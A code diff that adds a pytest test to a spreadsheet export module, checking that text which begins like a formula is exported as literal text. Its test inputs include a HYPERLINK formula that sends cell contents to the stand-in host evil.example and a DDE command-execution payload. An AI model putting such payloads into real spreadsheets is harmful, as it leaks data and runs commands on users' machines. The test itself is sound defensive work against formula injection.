@@ -8,6 +8,7 @@ the sheet row and column.
 from __future__ import annotations
 
 import io
+import zipfile
 from collections.abc import Mapping, Sequence
 from datetime import date, datetime
 from typing import Any
@@ -110,6 +111,26 @@ def test_the_template_has_one_column_per_employee_field_with_keys_formats_and_in
 def test_a_persons_theme_has_no_employee_sheet() -> None:
     with pytest.raises(NotAnEmployerTheme):
         employee_sheet_template(CAT, CAT.theme("hubei.graduate-employment"))
+
+
+@pytest.mark.parametrize(
+    "typed_text",
+    ['=HYPERLINK("http://evil.example/?"&A3,"点击查看")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"],
+)
+def test_text_that_starts_like_a_formula_is_exported_as_text_never_as_a_formula(typed_text: str) -> None:
+    """An occupation typed as ``=HYPERLINK(…)`` (formula injection, CSV/DDE): a sheet written with
+    it holds a text cell with Excel's quote prefix — shown as typed, never evaluated — and reads
+    back as typed."""
+    row = {**HIRES[0], "employment.occupation": typed_text}
+    data = build_sheet(CAT, SHANGRAO, [row])
+    ws = load_workbook(io.BytesIO(data)).worksheets[0]
+    column = [c.value for c in ws[2]].index("employment.occupation") + 1
+    cell = ws.cell(3, column)
+    assert cell.data_type == "s" and cell.quotePrefix
+    assert cell.value == typed_text
+    with zipfile.ZipFile(io.BytesIO(data)) as package:
+        assert b"<f>" not in package.read("xl/worksheets/sheet1.xml")
+    assert read_employee_sheet(CAT, SHANGRAO, data).employees[0]["employment.occupation"] == typed_text
 
 
 # ---------------------------------------------------------------------------------------- reading
